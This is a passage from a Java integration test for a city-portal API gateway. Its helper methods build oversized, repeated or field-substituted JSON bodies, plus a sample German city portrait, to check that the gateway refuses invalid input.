    }

    /** One case per field: the valid body with that field replaced by the hostile JSON. */
    private static List<Hostile> fields(String method, String path, Map<String, Header> headers,
            java.util.function.Supplier<Map<String, Object>> valid, List<Field> fields) {
        List<Hostile> cases = new ArrayList<>();
        for (Field field : fields) {
            cases.add(refused(method, path, field.path() + " " + field.what())
                    .body("application/json", withField(valid.get(), field))
                    .headers(headers));
        }
        return cases;
    }

    /** Serializes {@code body} with the value at the field's path replaced by the field's raw JSON. */
    @SuppressWarnings("unchecked")
    private static String withField(Map<String, Object> body, Field field) {
        String placeholder = "@@" + MARKER + "@@";
        Object root = copy(body);
        Object parent = root;
        String[] steps = field.path().split("\\.");
        for (int i = 0; i < steps.length - 1; i++) {
            parent = parent instanceof List<?> list ? list.get(Integer.parseInt(steps[i]))
                    : ((Map<String, Object>) parent).computeIfAbsent(steps[i], key -> new LinkedHashMap<>());
        }
        String last = steps[steps.length - 1];
        if (parent instanceof List<?> list) {
            ((List<Object>) list).set(Integer.parseInt(last), placeholder);
        } else {
            ((Map<String, Object>) parent).put(last, placeholder);
        }
        return json(root).replace("\"" + placeholder + "\"", field.json());
    }

    private static Object copy(Object value) {
        if (value instanceof Map<?, ?> map) {
            Map<String, Object> copy = new LinkedHashMap<>();
            map.forEach((key, item) -> copy.put(String.valueOf(key), copy(item)));
            return copy;
        }
        if (value instanceof List<?> list) {
            return new ArrayList<>(list.stream().map(HostileInputIT::copy).toList());
        }
        return value;
    }

    private static String json(Object value) {
        return Gateway.JSON.writeValueAsString(value);
    }

    private static String oversizedJson() {
        return "{\"title\":\"" + MARKER + " " + "x".repeat(OVER_LIMIT) + "\"}";
    }

    private static String repeat(String item, int times) {
        return "[" + String.join(",", java.util.Collections.nCopies(times, item)) + "]";
    }

    private static String carouselItem() {
        return json(((List<?>) CityOfItsOwn.carousel(MARKER).get("items")).get(0));
    }

    private static String facts(int count) {
        Map<String, String> facts = new LinkedHashMap<>();
        for (int i = 0; i < count; i++) {
            facts.put("Fakt " + i, MARKER);
        }
        return json(facts);
    }

    private static Map<String, Object> portrait() {
        Map<String, Object> portrait = new LinkedHashMap<>();
        portrait.put("name", MARKER + " Stadt");
        portrait.put("claim", "Ein Anspruch");
        portrait.put("intro", "Eine Einleitung.");
        portrait.put("facts", Map.of("Einwohner", "1"));
        portrait.put("neighbours", List.of("bochum"));
        return portrait;
    }

    private static String cities(int count) {
        List<String> slugs = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            slugs.add("stadt" + i);
        }
        return String.join(",", slugs);
    }

    private static String articles() {
        return "/api/cities/" + c + "/articles";
    }

    private static Map<String, String> orderedMap(String... keysAndValues) {
        Map<String, String> map = new LinkedHashMap<>();
        for (int i = 0; i < keysAndValues.length; i += 2) {
            map.put(keysAndValues[i], keysAndValues[i + 1]);
        }
        return map;
    }
}
